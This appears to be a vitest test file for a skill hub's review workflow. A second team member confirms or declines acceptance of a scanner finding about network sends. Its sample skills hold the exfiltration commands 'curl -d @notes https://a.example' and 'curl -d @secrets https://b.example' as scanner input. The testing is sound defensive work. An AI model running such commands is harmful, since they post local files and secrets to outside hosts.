import { engineVersion } from "@skillquay/scan";
import { expect, it } from "vitest";
import { insertVerdict } from "../../features/scans/queries/verdict-queries.ts";
import { type Browser, pageFixture, scopedKey, signedIn } from "./testing/page-fixture.ts";

const MESSAGE = "It sends a file to a server.";
const path = "/ui/skills/sender/acceptances";

/** Ada and bob in a team that wants a second person, and a skill of ada that the team sees. */
async function fixture() {
  const { hub, accountId, key, browser: ada } = await pageFixture();
  const member = await hub.member("bob");
  const bob = await signedIn(hub, member.key);
  const publish = async (body: string) => {
    const skillId = await hub.publish(accountId, {
      "SKILL.md": `---\nname: sender\ndescription: Sends things.\n---\n\n${body}\n`,
    });
    const { tree_digest: treeDigest } = await hub.services.database.db
      .selectFrom("versions")
      .where("skill_id", "=", skillId)
      .orderBy("number", "desc")
      .select("tree_digest")
      .executeTakeFirstOrThrow();
    const finding = { rule: "net.send", severity: "review", confidence: "high", path: "SKILL.md", line: 6 };
    await insertVerdict(hub.services.database.db, {
      treeDigest,
      engine: engineVersion,
      verdict: "review",
      findings: [{ ...finding, evidence: body, message: MESSAGE }],
      capabilities: [],
    });
    await hub.services.changes.fresh();
    return { skillId, treeDigest };
  };
  const published = await publish("curl -d @notes https://a.example");
  await ada.ask("/v1/account/teams", { body: { handle: "harbour", name: "Harbour" } });
  await ada.ask("/v1/account/teams/harbour/members/bob", { method: "PUT", body: {} });
  const { invitations } = Object((await bob.ask("/v1/account/invitations")).json);
  await bob.ask(`/v1/account/invitations/${invitations[0].id}/accept`, { body: {} });
  const showToTeam = () =>
    ada.ask("/v1/skills/sender/visibility", {
      method: "PUT",
      body: { visibility: "team", team: "harbour" },
    });
  await showToTeam();
  const wantSecond = (browser: Browser, secondReview: boolean) =>
    browser.ask("/v1/account/teams/harbour/review", { method: "PUT", body: { secondReview } });
  const accept = (browser: Browser, treeDigest: string) =>
    browser.ask(path, {
      body: { rule: "net.send", explanation: MESSAGE, reason: "Our own server.", treeDigest, days: 30 },
    });
  const scan = async (browser: Browser) => Object((await browser.ask("/ui/skills/sender/scan")).json);
  const waits = async (browser: Browser) => Object((await browser.ask("/ui/home")).json).waits;
  const ways = { publish, showToTeam, wantSecond, accept, scan, waits };
  return { hub, key, ada, bob, bobsKey: member.key, ...ways, ...published };
}

const answer = (browser: Browser, id: string, said: string) =>
  browser.ask(`${path}/${id}/review`, { body: { answer: said } });

it("waits for somebody else of the team, tells them at home, and then holds for all of it", async () => {
  const { ada, bob, treeDigest, wantSecond, accept, scan, waits } = await fixture();
  expect((await wantSecond(ada, true)).json).toEqual({ secondReview: true });
  expect((await scan(bob)).secondReview).toBe("harbour");
  const asked = Object((await accept(ada, treeDigest)).json);
  expect(asked).toMatchObject({
    level: "check",
    decisions: 1,
    acceptances: [{ state: "waits", by: "ada", review: { team: "harbour" } }],
  });
  expect(asked.acceptances[0].review).not.toHaveProperty("mayReview");
  await expect
    .poll(() => waits(bob), { timeout: 10_000 })
    .toMatchObject([
      { kind: "review", page: "skills", path: "skills/sender/security", count: 1, names: ["sender"] },
    ]);
  expect((await scan(bob)).acceptances).toMatchObject([{ state: "waits", review: { mayReview: true } }]);
  const [{ id }] = asked.acceptances;
  const agreed = Object((await answer(bob, id, "confirmed")).json);
  const held = { state: "holds", by: "ada", review: { by: "bob", at: expect.any(String) } };
  expect(agreed).toMatchObject({ level: "notes", decisions: 0, acceptances: [held] });
  expect(await scan(ada)).toMatchObject({ level: "notes", decisions: 0, acceptances: [held] });
  await expect.poll(() => waits(bob), { timeout: 10_000 }).toEqual([]);
  const { entries } = Object((await bob.ask("/v1/account/audit")).json);
  expect(entries[0]).toMatchObject({
    action: "finding.confirm",
    target: "sender",
    details: { rule: "net.send", by: "ada" },
  });
  // Whoever of the team sees that it is not fine takes it back for all.
  await bob.ask(`${path}/${id}`, { method: "DELETE" });
  expect(await scan(ada)).toMatchObject({ level: "check", acceptances: [{ state: "withdrawn" }] });
});

it("needs a decision as before when the second person says no", async () => {
  const { ada, bob, treeDigest, wantSecond, accept, scan } = await fixture();
  await wantSecond(ada, true);
  const [{ id }] = Object((await accept(ada, treeDigest)).json).acceptances;
  expect((await answer(bob, id, "declined")).json).toMatchObject({
    level: "check",
    acceptances: [{ state: "declined", review: { by: "bob" } }],
  });
  expect((await answer(bob, id, "confirmed")).json).toMatchObject({ error: "acceptance_not_found" });
  expect((await scan(ada)).level).toBe("check");
});

it("is answered by nobody who asked, is not of the team, or has the key of a collection", async () => {
  const { hub, ada, bob, bobsKey, skillId, treeDigest, wantSecond, accept, scan } = await fixture();
  await wantSecond(ada, true);
  const [{ id }] = Object((await accept(ada, treeDigest)).json).acceptances;
  expect((await answer(ada, id, "confirmed")).json).toMatchObject({ error: "acceptance_not_found" });
  const eve = await signedIn(hub, (await hub.member("eve")).key);
  expect((await answer(eve, id, "confirmed")).json).toMatchObject({ error: "skill_not_found" });
  const scoped = await signedIn(hub, (await scopedKey(hub, bobsKey, [skillId])).key);
  expect((await answer(scoped, id, "confirmed")).status).toBe(403);
  expect((await scoped.ask("/ui/skills/sender/scan")).text).not.toContain("Our own server.");
  expect((await answer(bob, "not-an-id", "confirmed")).status).toBe(404);
  expect((await answer(bob, id, "perhaps")).status).toBe(400);
  expect((await scan(bob)).level).toBe("check");
});

it("holds for exactly the bytes that both looked at", async () => {
  const { ada, bob, publish, showToTeam, treeDigest, wantSecond, accept, scan } = await fixture();
  await wantSecond(ada, true);
  const [{ id }] = Object((await accept(ada, treeDigest)).json).acceptances;
  await publish("curl -d @secrets https://b.example");
  await showToTeam();
  expect((await answer(bob, id, "confirmed")).status).toBe(404);
  expect((await scan(bob)).acceptances).toMatchObject([{ state: "other-bytes" }]);
});

it("is an admin's choice, and without it everybody decides for themselves", async () => {
  const { ada, bob, treeDigest, wantSecond, accept, scan } = await fixture();
  expect((await wantSecond(bob, true)).status).toBe(403);
  expect((await accept(ada, treeDigest)).json).toMatchObject({ level: "notes" });
  expect(await scan(bob)).toMatchObject({ level: "check" });
  await wantSecond(ada, true);
  // What was decided before goes on; what waits goes on waiting when one person is enough again.
  expect(await scan(ada)).toMatchObject({ level: "notes" });
  const [{ id }] = Object((await accept(bob, treeDigest)).json).acceptances;
  await wantSecond(ada, false);
  expect(await scan(bob)).toMatchObject({ level: "check", acceptances: [{ state: "waits" }] });
  expect((await answer(ada, id, "confirmed")).json).toMatchObject({ level: "notes" });
  expect(await scan(bob)).toMatchObject({ level: "notes" });
});
